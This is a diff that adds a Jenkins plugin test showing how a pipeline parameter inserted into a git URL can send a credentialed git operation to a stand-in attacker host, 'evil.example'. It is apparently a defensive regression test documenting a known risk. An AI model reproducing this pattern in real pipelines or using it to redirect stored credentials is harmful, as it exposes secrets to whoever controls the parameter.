@@ -226,6 +226,19 @@ class GitDefaultsJenkinsTest {
         assertWritten(git.url("app"), "refs/heads/main");
     }
 
+    /** What the documentation warns of: Groovy replaces it before the step begins, which sees a URL like any other. */
+    @Test
+    void with_credentials_a_pipeline_that_puts_a_parameter_into_the_url_lets_it_decide() throws Exception {
+        addSecret();
+        WorkflowJob job = sast.pipeline(
+                STEP + "git: [url: \"https://${params.HOST}/app.git\", branch: 'main', credentialsId: 'git'])");
+        job.addProperty(new ParametersDefinitionProperty(new StringParameterDefinition("HOST", "evil.example")));
+
+        jenkins.buildAndAssertSuccess(job);
+
+        assertWritten(EVIL, "refs/heads/main");
+    }
+
     private FreeStyleProject freestyle(String repository, String url) throws Exception {
         FreeStyleProject job = jenkins.createFreeStyleProject();
         job.setScm(new GitSCM(
